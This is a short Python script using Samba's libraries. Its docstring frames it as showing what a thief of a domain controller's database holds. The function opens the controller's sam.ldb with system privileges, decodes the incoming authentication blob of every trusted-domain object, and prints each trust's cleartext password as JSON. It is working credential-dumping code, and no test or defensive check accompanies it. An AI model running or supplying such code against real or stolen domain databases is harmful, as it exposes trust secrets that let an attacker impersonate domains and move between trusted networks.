"""What a thief of the domain controller's database holds: the secrets of its trusts."""

import json
import os

from samba.auth import system_session
from samba.dcerpc import drsblobs
from samba.ndr import ndr_unpack
from samba.param import LoadParm
from samba.samdb import SamDB


def trust_secrets(dc_folder):
    """Prints the password of each trusted domain object by its partner realm, as JSON."""
    lp = LoadParm()
    lp.load(os.path.join(dc_folder, "etc/smb.conf"))
    sam = SamDB(url=os.path.join(dc_folder, "private/sam.ldb"), session_info=system_session(lp), lp=lp)
    found = {}
    for trust in sam.search(expression="(objectClass=trustedDomain)", attrs=["trustPartner", "trustAuthIncoming"]):
        blob = ndr_unpack(drsblobs.trustAuthInOutBlob, trust["trustAuthIncoming"][0])
        password = bytes(blob.current.array[0].AuthInfo.password).decode("utf-16-le")
        found[str(trust["trustPartner"][0]).upper()] = password
    print(json.dumps(found))
